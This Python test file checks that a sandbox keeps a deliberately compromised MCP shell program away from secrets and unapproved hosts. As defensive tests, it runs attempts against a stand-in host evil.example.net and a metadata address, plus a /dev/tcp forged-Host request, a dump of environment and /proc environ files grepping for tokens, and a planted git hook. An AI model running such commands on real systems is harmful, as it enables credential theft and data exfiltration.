"""A compromised MCP program: it reaches no host but its own, and its secret is nowhere else."""

import asyncio
import ipaddress
import os
import socket
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import psycopg
import pytest
from psycopg import sql

from tests.databases import DatabaseUrls
from tests.integration.conftest import WorkspaceFixture, new_workspace
from tests.integration.gate.builders import audit_records
from tests.integration.gate.test_approvals import asked, carried_out, decide
from tests.integration.mcp.conftest import added, settings
from tests.wait_until import PATIENCE
from toolcrib.core.callers import Caller
from toolcrib.core.errors import ToolFailed
from toolcrib.core.mcp_servers import McpServer, McpWorkspaceAccess
from toolcrib.core.paused_calls import ApprovalDecision, GrantScope
from toolcrib.sandbox.bubblewrap import INTERPRETER
from toolcrib.sandbox.egress_proxy import EgressNetwork
from toolcrib.sandbox.sandbox import Sandbox
from toolcrib.schemas.paused_calls import whole_paused_call_out
from toolcrib.settings import Settings
from toolcrib.storage.database import Database

__all__ = ["settings"]

_PROGRAM = (Path(__file__).parent.parent / "fakes" / "shell_mcp.py").read_text()
TOKEN, OTHER_TOKEN = "sk-live-4f9a8b7c6d5e4f3a2b1c", "sk-live-0000aaaa1111bbbb2222"
GRANTED, FOREIGN, METADATA = "api.example.com", "evil.example.net", "metadata.example.com"
OK = b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n"


async def resolve(host: str, port: int) -> Sequence[str]:
    return ["169.254.169.254"] if host == METADATA else ["127.0.0.1"]


@pytest.fixture(scope="module")
def sandbox() -> Sandbox:
    """Loopback takes the role of the public internet."""
    return Sandbox(network=EgressNetwork(resolve=resolve, allows=lambda address: address.is_loopback))


@pytest.fixture
async def workspace(database: Database, settings: Settings, sandbox: Sandbox) -> AsyncIterator[WorkspaceFixture]:
    workspace = await new_workspace(database, settings, sandbox=sandbox)
    yield workspace
    await workspace.engine.toolbox.close()


async def shell(workspace: WorkspaceFixture, name: str, **how: Any) -> McpServer:
    return await added(workspace, name, command=[INTERPRETER, "-c", _PROGRAM], **how)


async def said(workspace: WorkspaceFixture, name: str, command: str, *, tool: str = "sh") -> str:
    """What a command inside the program prints, whether or not it fails."""
    outcome = await workspace.call(f"mcp:{name}/{tool}", command=command)
    if outcome.error is None:
        return str(outcome.result["text"])
    assert isinstance(outcome.error, ToolFailed)
    return outcome.error.message


@asynccontextmanager
async def upstream(
    answer: bytes = OK, *, arrived: asyncio.Event | None = None, held: asyncio.Event | None = None
) -> AsyncIterator[tuple[int, list[bytes]]]:
    got: list[bytes] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        got.append(await reader.readuntil(b"\r\n\r\n"))
        if arrived is not None:
            arrived.set()
        if held is not None:
            await held.wait()
        writer.write(answer)
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    async with server:
        yield server.sockets[0].getsockname()[1], got


def fetching(address: str, *, direct: bool = False) -> str:
    proxies = "urllib.request.ProxyHandler({})" if direct else ""
    program = (
        "import urllib.request\n"
        f"try: print(urllib.request.build_opener({proxies}).open({address!r}, timeout=10).read().decode())\n"
        "except Exception as error: print('failed', error)\n"
    )
    return f"{INTERPRETER} -c {_quoted(program)}"


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


@pytest.mark.long
async def test_program_reaches_its_granted_host_and_no_other(workspace: WorkspaceFixture) -> None:
    async with upstream() as (port, got), upstream() as (other, stolen):
        redirect = f"HTTP/1.1 302 Found\r\nLocation: http://{FOREIGN}:{other}/\r\nContent-Length: 0\r\n\r\n".encode()
        async with upstream(redirect) as (astray, _):
            hosts = (f"{GRANTED}:{port}", f"{GRANTED}:{astray}", f"{METADATA}:{other}")
            await shell(workspace, "tools", hosts=hosts)

            assert "hello" in await said(workspace, "tools", fetching(f"http://{GRANTED}:{port}/"))
            attempts = {
                "another name": fetching(f"http://{FOREIGN}:{other}/"),
                "another port": fetching(f"http://{GRANTED}:{other}/"),
                "an address": fetching(f"http://127.0.0.1:{other}/"),
                "an address in decimal": fetching(f"http://2130706433:{other}/"),
                "an address, past the proxy": fetching(f"http://127.0.0.1:{other}/", direct=True),
                "a redirect": fetching(f"http://{GRANTED}:{astray}/"),
                "a link-local address": fetching(f"http://{METADATA}:{other}/"),
                "a name, past the proxy": fetching(f"http://{GRANTED}:{other}/", direct=True),
                "a forged Host": f"printf 'GET http://{GRANTED}:{port}/ HTTP/1.1\\r\\nHost: {FOREIGN}\\r\\n\\r\\n' "
                "| timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; cat <&3'",
            }  # fmt: skip
            for attempt, command in attempts.items():
                assert "hello" not in await said(workspace, "tools", command), attempt
        assert stolen == []
        assert len(got) == 1


async def test_permitted_private_hosts_are_exactly_those(database: Database, settings: Settings) -> None:
    """The operator's list lets a granted host have private addresses, never those of the link."""
    async with upstream() as (port, got):
        strict = settings.model_copy(update={"allowed_private_mcp_hosts": (f"{GRANTED}:{port}",)})
        network = EgressNetwork(resolve=resolve)
        workspace = await new_workspace(database, strict, sandbox=Sandbox(network=network))
        hosts = (f"{GRANTED}:{port}", f"{FOREIGN}:{port}")
        await shell(workspace, "tools", hosts=hosts)

        assert "hello" in await said(workspace, "tools", fetching(f"http://{GRANTED}:{port}/"))
        denied = await said(workspace, "tools", fetching(f"http://{FOREIGN}:{port}/"))
        await workspace.engine.toolbox.close()
    assert f"{FOREIGN}:{port} (its address is private)" in denied
    assert len(got) == 1
    wide = replace(network, permits=lambda host, port: True)
    assert wide.may_connect(GRANTED, 80, ipaddress.ip_address("10.0.0.1"))
    assert not wide.may_connect(GRANTED, 80, ipaddress.ip_address("10.0.0.1"), by_name=False)
    for address in ("169.254.169.254", "fe80::1", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "fd00:ec2::254"):
        assert not wide.may_connect(GRANTED, 80, ipaddress.ip_address(address)), address


async def test_name_that_a_wildcard_covers_leads_to_no_private_address(database: Database, settings: Settings) -> None:
    """Whoever serves the names of a domain chooses their addresses, and local mode permits private hosts."""
    async with upstream() as (port, got):
        local = settings.model_copy(update={"allowed_private_mcp_hosts": ("*",)})
        workspace = await new_workspace(database, local, sandbox=Sandbox(network=EgressNetwork(resolve=resolve)))
        await shell(workspace, "tools", hosts=(f"*.{GRANTED.partition('.')[2]}:{port}",))

        denied = await said(workspace, "tools", fetching(f"http://{GRANTED}:{port}/"))
        await workspace.engine.toolbox.close()
    assert f"{GRANTED}:{port} (its address is private)" in denied
    assert got == []


async def test_secret_is_in_the_programs_environment_and_nowhere_else(
    workspace: WorkspaceFixture, database_urls: DatabaseUrls
) -> None:
    # A value that looks like the end of the options must not end them.
    server = await shell(workspace, "tools", secrets={"A_DASH": "--", "API_TOKEN": TOKEN})
    await shell(workspace, "others", secrets={"API_TOKEN": OTHER_TOKEN})
    assert "28 characters" in await said(workspace, "tools", 'echo "${#API_TOKEN} characters"')

    everything = (
        "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; grep -rs 'sk-liv[e]-' /data /tmp /etc"
    )
    shown = [
        await said(workspace, "tools", f"{everything}; true"),
        await said(workspace, "tools", "echo $API_TOKEN >&2; false"),
        await said(workspace, "others", f"{everything}; true"),
        (await workspace.result("bash", command=f"({everything}; true) | grep -c 'sk-liv[e]-' || true"))["output"],
        "".join(_command_lines()),
    ]
    died = await workspace.call("mcp:tools/sh", command="kill $PPID; echo $API_TOKEN >/proc/$PPID/fd/2")
    shown += [str(died.error), repr(await workspace.engine.toolbox.refresh(workspace.tenant, server.id))]
    failing = ["/bin/sh", "-c", "echo the token is $API_TOKEN >&2; exit 3"]
    failed = await added(workspace, "failing", command=failing, secrets={"API_TOKEN": TOKEN}, approve=False)

    assert "API_TOKEN=[secret API_TOKEN]" in shown[0], "its own output is masked"
    assert failed.last_error is not None
    assert "it exited with status 3: the token is [secret API_TOKEN]" in failed.last_error
    assert shown[3].strip() == "0", "a command of the same workspace"
    for text in (*shown, failed.last_error):
        assert TOKEN not in text
        assert OTHER_TOKEN not in text
    assert _tables_with(database_urls, TOKEN) == []
    assert not [path for path in _files(workspace.settings.data_dir) if TOKEN.encode() in path.read_bytes()]


def _command_lines() -> list[str]:
    found = []
    for process in filter(str.isdecimal, os.listdir("/proc")):
        try:
            found.append(Path("/proc", process, "cmdline").read_text(errors="replace"))
        except OSError:
            continue
    return found


def _tables_with(urls: DatabaseUrls, text: str) -> list[str]:
    """Return the tables with a row that contains the text, of all schemas: audit, events, calls and the rest."""
    found = []
    with psycopg.connect(urls.owner) as connection:
        tables = connection.execute(
            "select table_schema, table_name from information_schema.tables "
            "where table_schema not in ('pg_catalog', 'information_schema') and table_type = 'BASE TABLE'"
        ).fetchall()
        for schema, table in tables:
            name = sql.Identifier(schema, table)
            query = sql.SQL("select count(*) from {} t where t::text like %s or t::text like %s").format(name)
            row = connection.execute(query, (f"%{text}%", f"%{text.encode().hex()}%")).fetchone()
            if row and row[0]:
                found.append(table)
    assert len(tables) > 20
    return found


def _files(folder: Path) -> list[Path]:
    """Return the files of a data directory that outlive programs."""
    kept = (path for path in folder.rglob("*") if "staging" not in path.parts)
    return [path for path in kept if path.is_file() and not path.is_symlink()]


async def test_program_with_a_read_only_workspace_reads_it_without_what_is_protected(
    workspace: WorkspaceFixture,
) -> None:
    project = workspace.project
    (project / "code.py").write_text("print(1)\n")
    (project / ".env").write_text("KEY=hush\n")
    with socket.socket(socket.AF_UNIX) as daemon:
        # Nothing is masked there.
        here = os.open(workspace.mount("central"), os.O_RDONLY | os.O_DIRECTORY)
        # A socket's path has at most 108 bytes.
        daemon.bind(f"/proc/self/fd/{here}/daemon.sock")
        os.close(here)
        daemon.listen()
        await shell(workspace, "reader", workspace_access=McpWorkspaceAccess.READ_ONLY)

        assert "print(1)" in await said(workspace, "reader", "cat /project/code.py")
        assert "hush" not in await said(workspace, "reader", "cat /project/.env; ls -la /project")
        connect = "import socket; socket.socket(socket.AF_UNIX).connect('/central/daemon.sock'); print('connected')"
        assert "daemon.sock" in await said(workspace, "reader", "ls /central")
        assert "connected" not in await said(workspace, "reader", f'{INTERPRETER} -c "{connect}" 2>&1 | tail -1')
    for command in ("echo x > /project/new", "rm /project/code.py", "echo x >> /project/code.py", "mkdir /project/d"):
        assert "Read-only file system" in await said(workspace, "reader", command)
    assert sorted(path.name for path in project.iterdir()) == [".env", "code.py"]
    (project / "later.txt").write_text("later")
    assert "later" in await said(workspace, "reader", "cat /project/later.txt"), "each call sees the tree as it is"


async def test_what_a_transaction_call_changes_is_asked_about_shown_and_undone(workspace: WorkspaceFixture) -> None:
    project, tool = workspace.project, "mcp:writer/sh"
    (project / "old.txt").write_text("old\n")
    await shell(workspace, "writer", workspace_access=McpWorkspaceAccess.TRANSACTION)
    change = "echo new > /project/old.txt; mkdir /project/d; ln -s ../old.txt /project/d/link; rm -f /project/none"
    agent = await workspace.agent(
        toolsets=["mcp:writer"], tool_permissions={tool: {"allowed": True, "approve": "effect"}}
    )

    asked = await workspace.call(tool, agent, command=change)
    assert asked.is_waiting
    pending = await workspace.engine.paused_calls.get(workspace.tenant, asked.metadata["pause_id"])
    shown = await workspace.engine.paused_calls.proposal(workspace.tenant, pending.approval)
    assert shown is not None
    assert sorted(path.relative for path in shown.paths) == ["d", "d/link", "old.txt"]
    assert (project / "old.txt").read_text() == "old\n", "nothing counts before it is approved"

    done = await workspace.call(tool, command=change)
    assert (project / "old.txt").read_text() == "new\n"
    failed = await workspace.call(tool, command="echo half > /project/half; false")
    assert isinstance(failed.error, ToolFailed)
    assert not (project / "half").exists(), "a call that fails changes nothing"
    await workspace.result("undo", calls=[str(done.call_id)])
    assert (project / "old.txt").read_text() == "old\n"
    assert not (project / "d").exists()
    look = await said(workspace, "writer", "echo x > /project/new", tool="look")
    assert "Read-only file system" in look, "a tool that was approved as read-only stays so"


async def test_protected_paths_need_an_approval_also_from_a_program(workspace: WorkspaceFixture) -> None:
    tool = "mcp:writer/sh"
    await shell(workspace, "writer", workspace_access=McpWorkspaceAccess.TRANSACTION)
    (workspace.project / ".git" / "hooks").mkdir(parents=True)
    agent = await workspace.agent(
        trust="autonomous", toolsets=["mcp:writer"], tool_permissions={tool: {"allowed": True, "paths": ["**"]}}
    )

    asked = await workspace.call(tool, agent, command="echo evil > /project/.git/hooks/pre-commit")

    assert asked.is_waiting
    assert not (workspace.project / ".git" / "hooks" / "pre-commit").exists()


async def test_what_a_program_contacts_after_a_call_is_not_recorded_as_the_next_calls(
    workspace: WorkspaceFixture,
) -> None:
    ended, arrived = asyncio.Event(), asyncio.Event()
    async with upstream(held=ended) as (slow, _), upstream(arrived=arrived) as (late, _):
        await shell(workspace, "tools", hosts=(f"{GRANTED}:{slow}", f"{GRANTED}:{late}"))
        both = "; ".join(fetching(f"http://{GRANTED}:{port}/") for port in (slow, late))
        started = await workspace.call("mcp:tools/sh", command=f"({both}) </dev/null >/dev/null 2>&1 &")
        ended.set()
        async with asyncio.timeout(PATIENCE):
            await arrived.wait()
        after = await workspace.call("mcp:tools/sh", command="true")

    hosts = {one.call_id: one.hosts for one in await audit_records(workspace)}
    phoned = {"host": f"{GRANTED}:{late}", "denied_reason": None, "made": "before"}
    assert phoned in hosts[after.call_id]
    assert phoned["host"] not in [one["host"] for one in hosts[started.call_id]]


async def allowed_to_ask(workspace: WorkspaceFixture, tool: str) -> Caller:
    return await workspace.agent(toolsets=[tool.partition("/")[0]], tool_permissions={tool: {"allowed": True}})


MORE: dict[str, dict[str, Any]] = {
    "secret:ADMIN_TOKEN": {"secrets": {"ADMIN_TOKEN": TOKEN}},
    FOREIGN: {"hosts": (GRANTED, FOREIGN)},
    "workspace:write": {"workspace_access": McpWorkspaceAccess.TRANSACTION},
}


@pytest.mark.parametrize("added_since", MORE)
async def test_approval_does_not_cover_what_the_server_is_given_later(
    workspace: WorkspaceFixture, added_since: str
) -> None:
    server = await shell(workspace, "tools", hosts=(GRANTED,), secrets={"API_TOKEN": OTHER_TOKEN})
    tool, rows = "mcp:tools/sh", workspace.engine.toolbox.rows
    agent = await allowed_to_ask(workspace, tool)
    approval = await asked(workspace, agent, tool, command="env; touch /data/ran")
    assert approval.approval.effects["access"] == list(server.access)
    await decide(workspace, approval)
    await rows.update(workspace.tenant, server.id, **MORE[added_since])

    [again] = await carried_out(workspace)

    assert again.is_waiting, "a person is asked about what it reaches now"
    shown = await workspace.engine.paused_calls.get(workspace.tenant, again.metadata["pause_id"])
    assert shown.approval.replaces == approval.id
    assert added_since in shown.approval.reason
    text = whole_paused_call_out(shown).model_dump()["text"]
    assert "server:" not in text + shown.approval.reason, "which server it is means nothing to a person"
    assert f"{'Contacts' if added_since == FOREIGN else 'Has access to'} {added_since}\n" in text
    assert "/data/ran" not in await said(workspace, "tools", "ls /data/*; true"), "it did not run"
    await decide(workspace, shown)
    [done] = await carried_out(workspace)
    assert done.succeeded, done.error


@pytest.mark.parametrize("added_since", MORE)
async def test_saved_approval_does_not_cover_what_the_server_is_given_later(
    workspace: WorkspaceFixture, added_since: str
) -> None:
    server = await shell(workspace, "tools", hosts=(GRANTED,), secrets={"API_TOKEN": OTHER_TOKEN})
    tool, rows = "mcp:tools/sh", workspace.engine.toolbox.rows
    agent = await allowed_to_ask(workspace, tool)
    assert agent.agent_id is not None
    approval = await asked(workspace, agent, tool, command="true")
    suggested = approval.approval.suggested_rule
    assert (suggested.hosts, suggested.access) == ((GRANTED,), server.access)
    await decide(workspace, approval, ApprovalDecision(approved=True, scope=GrantScope.ALWAYS, rule=suggested))
    await carried_out(workspace)
    agent = replace(agent, agent=(await workspace.stores.agents.get(workspace.tenant, agent.agent_id)).as_caller)
    covered = await workspace.call(tool, agent, command="true")
    assert covered.succeeded, covered.error

    await rows.update(workspace.tenant, server.id, **MORE[added_since])

    assert (await workspace.call(tool, agent, command="true")).is_waiting
    await rows.update(workspace.tenant, server.id, hosts=(), workspace_access=McpWorkspaceAccess.NONE,
                      secrets={"ADMIN_TOKEN": None})  # fmt: skip
    less = await workspace.call(tool, agent, command="true")
    assert less.succeeded, "with less than it names, the saved approval still covers the call"


async def test_approval_does_not_cover_another_server_of_the_same_name(workspace: WorkspaceFixture) -> None:
    server = await shell(workspace, "tools")
    tool, rows = "mcp:tools/sh", workspace.engine.toolbox.rows
    agent = await allowed_to_ask(workspace, tool)
    approval = await asked(workspace, agent, tool, command="touch /data/ran")
    await decide(workspace, approval)
    await rows.delete(workspace.tenant, server.id)
    await added(workspace, "tools", command=[INTERPRETER, "-I", "-c", _PROGRAM])

    [again] = await carried_out(workspace)

    assert again.is_waiting, "a person is asked about the other program"
    shown = await workspace.engine.paused_calls.get(workspace.tenant, again.metadata["pause_id"])
    assert shown.approval.replaces == approval.id
    assert "its MCP server was replaced by another one of the same name" in shown.approval.reason
    assert "server:" not in whole_paused_call_out(shown).model_dump()["text"]
    assert "/data/ran" not in await said(workspace, "tools", "ls /data/*; true"), "it did not run"
    await decide(workspace, shown)
    [done] = await carried_out(workspace)
    assert done.succeeded, done.error


async def test_saved_approval_does_not_cover_another_server_of_the_same_name(workspace: WorkspaceFixture) -> None:
    server = await shell(workspace, "tools")
    tool, rows = "mcp:tools/sh", workspace.engine.toolbox.rows
    agent = await allowed_to_ask(workspace, tool)
    assert agent.agent_id is not None
    approval = await asked(workspace, agent, tool, command="true")
    rule = approval.approval.suggested_rule
    await decide(workspace, approval, ApprovalDecision(approved=True, scope=GrantScope.ALWAYS, rule=rule))
    await carried_out(workspace)
    agent = replace(agent, agent=(await workspace.stores.agents.get(workspace.tenant, agent.agent_id)).as_caller)
    covered = await workspace.call(tool, agent, command="true")
    assert covered.succeeded, covered.error

    await rows.delete(workspace.tenant, server.id)
    other = await added(workspace, "tools", command=[INTERPRETER, "-I", "-c", _PROGRAM])

    assert (await workspace.call(tool, agent, command="true")).is_waiting
    await rows.delete(workspace.tenant, other.id)
    await shell(workspace, "tools")
    same = await workspace.call(tool, agent, command="true")
    assert same.succeeded, "it is the program that the saved approval was given for"
